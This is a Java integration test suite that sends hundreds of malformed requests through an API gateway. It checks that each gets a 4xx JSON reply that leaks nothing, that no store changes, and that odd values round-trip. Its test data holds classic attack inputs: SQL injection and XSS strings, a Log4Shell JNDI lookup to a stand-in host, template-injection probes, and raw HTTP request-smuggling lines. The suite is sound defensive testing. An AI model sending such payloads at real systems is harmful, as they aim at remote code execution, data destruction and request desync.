package com.practicalsystemdesign.systemtests.reliability;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.regex.Pattern;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import com.practicalsystemdesign.systemtests.e2e.Gateway.Reply;
import com.practicalsystemdesign.systemtests.e2e.RawHttp;
import com.practicalsystemdesign.systemtests.reliability.HostileRequests.Hostile;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The hostile input suite: hundreds of malformed requests over every endpoint, through
 * the gateway of the local run. Each is refused with a 4xx and a JSON body that gives
 * nothing away, none changes a store, and odd but valid values (quotes, emoji, markup)
 * come back exactly as they were sent.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputSuiteIT extends ReliabilitySuite {

    /**
     * What no answer may contain: Java names, stack frames, SQL and driver errors, HTML
     * pages.
     */
    private static final Pattern LEAK = Pattern.compile("Exception|\\tat |\\bat [a-z]+\\.[a-z]+\\.|java\\.|jakarta\\."
            + "|org\\.springframework|com\\.practicalsystemdesign|tools\\.jackson|com\\.fasterxml|io\\.r2dbc|io\\.netty"
            + "|io\\.lettuce|software\\.amazon|reactor\\.|SQLSTATE|syntax error|bad SQL|PSQLException|violates|<html|<!DOCTYPE"
            + "|nginx", Pattern.CASE_INSENSITIVE);

    /** docs/api.md's endpoints, and the path pattern each one answers. */
    private static final Map<String, Pattern> ENDPOINTS = endpoints();

    private static final JsonMapper JSON = JsonMapper.builder().build();

    private static final AtomicLong malformedSent = new AtomicLong();

    private static final AtomicLong clientErrors = new AtomicLong();

    private static final AtomicLong serverErrors = new AtomicLong();

    private static final AtomicInteger oddValues = new AtomicInteger();

    private static final AtomicInteger protocolViolations = new AtomicInteger();

    private static String stores = "not compared";

    @AfterAll
    static void summary() {
        System.out.printf(
                "hostile input suite: %d malformed requests over the %d endpoints of docs/api.md, %d answered 4xx JSON, "
                        + "%d 5xx, stores %s; %d protocol violations answered JSON; %d odd values round-tripped verbatim%n",
                malformedSent.get(), ENDPOINTS.size(), clientErrors.get(), serverErrors.get(), stores,
                protocolViolations.get(), oddValues.get());
    }

    @Test
    @Order(1)
    void oddButValidUserValuesRoundTripVerbatimThroughCacheAndDatabase() {
        List<String> names = List.of("O'Brien \"The Hammer\"", "Robert'); DROP TABLE users;--",
                "<script>alert(\"x\")</script>", "😀 👩‍👩‍👧‍👦 🇺🇦", "Zoë Ångström ß", "مرحبا עברית",
                "\u202Eevil\u202C", "a\u0301 e\u0301", "日本語テキスト", "${jndi:ldap://evil.example/a}", "{{7*7}} %s %n",
                "back\\slash / slash", "tab\tand\nnewline", "é".repeat(100));
        String run = UUID.randomUUID().toString().substring(0, 8);
        for (int i = 0; i < names.size(); i++) {
            String name = names.get(i);
            String email = "odd." + i + "+" + run + "@example.com";
            Reply created = gateway.post("/api/users", json(Map.of("name", name, "email", email)));
            assertThat(created.status()).as(created.toString()).isEqualTo(201);
            long id = created.json().get("id").asLong();

            assertThat(created.json().get("name").asString()).isEqualTo(name);
            assertThat(gateway.get("/api/users/" + id).json().get("name").asString()).as("cache miss").isEqualTo(name);
            assertThat(gateway.get("/api/users/" + id).json().get("name").asString()).as("cache hit").isEqualTo(name);
            assertThat(JSON.readTree(stack.redis.cachedUsers(List.of(id)).get(id)).get("name").asString())
                .as("in Redis")
                .isEqualTo(name);
            assertThat(stack.postgres.query("SELECT name FROM users WHERE id = " + id, row -> row.getString(1)))
                .as("in PostgreSQL")
                .containsExactly(name);
            oddValues.incrementAndGet();
        }
        for (String email : List.of("o'brien+tag." + run + "@example.com", "zoë." + run + "@exämple.com",
                "{x}|$y=z." + run + "@example.com")) {
            Reply created = gateway.post("/api/users", json(Map.of("name", "Odd email", "email", email)));
            assertThat(created.status()).as(created.toString()).isEqualTo(201);
            assertThat(gateway.get("/api/users/" + created.json().get("id").asLong()).json().get("email").asString())
                .isEqualTo(email);
            oddValues.incrementAndGet();
        }
    }

    @Test
    @Order(2)
    void oddButValidChatValuesRoundTripVerbatimThroughDynamoDb() {
        Map<String, Object> metadata = new LinkedHashMap<>();
        metadata.put("quote", "\"'`");
        metadata.put("html", "<script>alert(1)</script>");
        metadata.put("emoji", "😀👍🏽");
        metadata.put("sql", "' OR '1'='1");
        metadata.put("rtl", "\u202Eabc");
        metadata.put("nested", Map.of("list", List.of(1, 2.5, true, "x", Map.of("deep", "ok")), "empty", ""));
        Reply created = gateway.post("/api/chats",
                json(Map.of("name", "<b>Chat</b> \"😀\" 'quoted'", "metadata", metadata)));
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        String chat = created.json().get("id").asString();
        JsonNode stored = gateway.get("/api/chats/" + chat).json().get("chat");
        assertThat(stored.get("name").asString()).isEqualTo("<b>Chat</b> \"😀\" 'quoted'");
        assertThat(stored.get("metadata")).isEqualTo(JSON.valueToTree(metadata));
        oddValues.addAndGet(1 + metadata.size());

        // Reserved URL characters too: the gateway passes the encoded path through as
        // sent.
        List<String> participants = List.of("<script>", "O'Brien", "😀", "user 1", "user+1", "user@example.com", "Ω≈ç√",
                "' OR ''='", "%41 literal percent", "user/alpha", "slash/inside/twice", "a;b", "semi;colon/slash",
                "q?x#y&z=1", "back\\slash", "%2F", "...", "p".repeat(120) + "😀".repeat(8));
        Reply added = gateway.post("/api/chats/" + chat + "/participants",
                json(Map.of("participant_ids", participants)));
        assertThat(added.status()).as(added.toString()).isEqualTo(201);
        assertThat(added.json().valueStream().map(participant -> participant.get("participant_id").asString()))
            .containsExactlyElementsOf(participants);
        for (String participant : participants) {
            Reply chats = gateway.get("/api/chats/participant/" + HostileRequests.encode(participant));
            assertThat(chats.json().valueStream().map(found -> found.get("id").asString())).as(participant)
                .contains(chat);
            Reply removed = gateway
                .delete("/api/chats/" + chat + "/participants/" + HostileRequests.encode(participant));
            assertThat(removed.status()).as(participant + ": " + removed).isEqualTo(200);
            assertThat(removed.json().get("message").asString())
                .isEqualTo("Participant " + participant + " removed from chat " + chat);
            oddValues.incrementAndGet();
        }
    }

    @Test
    @Order(3)
    void everyMalformedRequestIsAJsonClientErrorThatGivesNothingAwayAndChangesNoStore() {
        long user = gateway
            .post("/api/users", json(Map.of("name", "Target", "email", "target-" + UUID.randomUUID() + "@example.com")))
            .json()
            .get("id")
            .asLong();
        String chat = gateway.post("/api/chats", "{\"name\":\"Target\"}").json().get("id").asString();
        gateway.post("/api/chats/" + chat + "/participants", "{\"participant_ids\":[\"target-1\",\"target-2\"]}");
        List<Hostile> catalogue = HostileRequests.against(user, chat);
        assertThat(catalogue).hasSizeGreaterThanOrEqualTo(150);
        assertThat(endpointsHit(catalogue)).as("endpoints of docs/api.md the catalogue reaches")
            .containsAll(ENDPOINTS.keySet());
        // An empty cache, so that no entry left by an earlier suite expires between the
        // two snapshots.
        stack.redis.run("FLUSHDB");
        StoreSnapshot before = StoreSnapshot.of(stack);

        List<String> problems = new ArrayList<>();
        for (Hostile request : catalogue) {
            problems.addAll(problemsWith(request, send(request)));
        }
        StoreSnapshot after = StoreSnapshot.of(stack);

        assertThat(problems).as("answers that are not a 4xx JSON body giving nothing away").isEmpty();
        assertThat(after).as("the stores after the hostile requests").isEqualTo(before);
        stores = "unchanged (" + after + ")";
    }

    @Test
    @Order(4)
    void protocolViolationsNoClientLibrarySendsAreAnsweredWithJsonToo() {
        Map<String, String> clientErrors = Map.of("garbage request line", "GARBAGE\r\n\r\n", "space in the path",
                "GET /api/users/a b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", "no Host header",
                "GET /api/users HTTP/1.1\r\nConnection: close\r\n\r\n", "Content-Length not a number",
                "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n", "Content-Length and chunked",
                "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
                        + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                "NUL in the request line", "GET /api/users\0 HTTP/1.1\r\nHost: x\r\n\r\n",
                "HTTP/2 preface on the HTTP/1.1 port", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                "TLS handshake on the plain port",
                "\u0016\u0003\u0001\u0000\u00a5\u0001\u0000\u0000\u00a1\u0003\u0003");
        clientErrors.forEach((what, request) -> {
            RawHttp.Answer answer = RawHttp.send(stack.run.gatewayUrl(), request.getBytes(StandardCharsets.ISO_8859_1));
            assertThat(answer.status()).as(what + ": " + answer).isBetween(400, 499);
            assertJsonWithoutLeak(what, answer.contentType(), answer.body());
            protocolViolations.incrementAndGet();
        });
        // HTTP itself prescribes these two answers (RFC 9112 6.1, RFC 9110 15.6.6); the
        // gateway
        // gives them, as JSON like every other error.
        Map<String, Integer> prescribed = Map.of("unknown transfer coding", 501, "HTTP/3.0 in the request line", 505);
        Map<String, String> requests = Map.of("unknown transfer coding",
                "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n",
                "HTTP/3.0 in the request line", "GET /api/users HTTP/3.0\r\nHost: x\r\n\r\n");
        requests.forEach((what, request) -> {
            RawHttp.Answer answer = RawHttp.send(stack.run.gatewayUrl(), request.getBytes(StandardCharsets.ISO_8859_1));
            assertThat(answer.status()).as(what + ": " + answer).isEqualTo(prescribed.get(what));
            assertJsonWithoutLeak(what, answer.contentType(), answer.body());
            protocolViolations.incrementAndGet();
        });
    }

    private static Reply send(Hostile request) {
        malformedSent.incrementAndGet();
        try {
            Reply reply = gateway.send(request.method(), request.path(), request.body(),
                    request.headers().toArray(String[]::new));
            if (reply.status() >= 500) {
                serverErrors.incrementAndGet();
            }
            return reply;
        }
        catch (RuntimeException noAnswer) {
            serverErrors.incrementAndGet();
            return new Reply(-1, "", "", "no answer: " + noAnswer.getMessage());
        }
    }

    private static List<String> problemsWith(Hostile request, Reply reply) {
        List<String> problems = new ArrayList<>();
        if (reply.status() < 400 || reply.status() > 499) {
            problems.add(request + " answered " + reply.status() + ": " + abbreviate(reply.body()));
            return problems;
        }
        try {
            assertJsonWithoutLeak(request.toString(), reply.contentType(), reply.body());
            JsonNode status = JSON.readTree(reply.body()).get("status");
            assertThat(status == null || status.asInt() == reply.status()).as(request + ": status member " + status)
                .isTrue();
            clientErrors.incrementAndGet();
        }
        catch (AssertionError ex) {
            problems.add(ex.getMessage().strip() + " in " + abbreviate(reply.body()));
        }
        return problems;
    }

    private static void assertJsonWithoutLeak(String what, String contentType, String body) {
        assertThat(contentType).as(what + ": Content-Type").matches("application/(problem\\+)?json.*");
        assertThat(JSON.readTree(body).isObject()).as(what + ": a JSON object").isTrue();
        assertThat(LEAK.matcher(body).find()).as(what + ": gives internals away").isFalse();
    }

    private static Set<String> endpointsHit(List<Hostile> catalogue) {
        Set<String> hit = new TreeSet<>();
        for (Hostile request : catalogue) {
            String path = request.path().replaceFirst("\\?.*", "");
            ENDPOINTS.forEach((endpoint, pattern) -> {
                if (endpoint.startsWith(request.method() + " ") && pattern.matcher(path).matches()) {
                    hit.add(endpoint);
                }
            });
        }
        return hit;
    }

    private static Map<String, Pattern> endpoints() {
        Map<String, Pattern> endpoints = new LinkedHashMap<>();
        endpoints.put("POST /api/users", Pattern.compile("/api/users"));
        endpoints.put("GET /api/users", Pattern.compile("/api/users"));
        endpoints.put("GET /api/users/{id}", Pattern.compile("/api/users/(?!health$)[^/]+"));
        endpoints.put("PUT /api/users/{id}", Pattern.compile("/api/users/(?!health$)[^/]+"));
        endpoints.put("DELETE /api/users/{id}", Pattern.compile("/api/users/(?!health$)[^/]+"));
        endpoints.put("GET /api/users/health", Pattern.compile("/api/users/health"));
        endpoints.put("POST /api/chats", Pattern.compile("/api/chats"));
        endpoints.put("GET /api/chats/{chat_id}", Pattern.compile("/api/chats/(?!health$)[^/]+"));
        endpoints.put("DELETE /api/chats/{chat_id}", Pattern.compile("/api/chats/(?!health$)[^/]+"));
        endpoints.put("GET /api/chats/participant/{participant_id}", Pattern.compile("/api/chats/participant/[^/]+"));
        endpoints.put("POST /api/chats/{chat_id}/participants", Pattern.compile("/api/chats/[^/]+/participants"));
        endpoints.put("DELETE /api/chats/{chat_id}/participants/{participant_id}",
                Pattern.compile("/api/chats/[^/]+/participants/[^/]+"));
        endpoints.put("GET /api/chats/health", Pattern.compile("/api/chats/health"));
        return endpoints;
    }

    private static String json(Object value) {
        return JSON.writeValueAsString(value);
    }

    private static String abbreviate(String body) {
        return body.length() > 300 ? body.substring(0, 300) + "..." : body;
    }

}
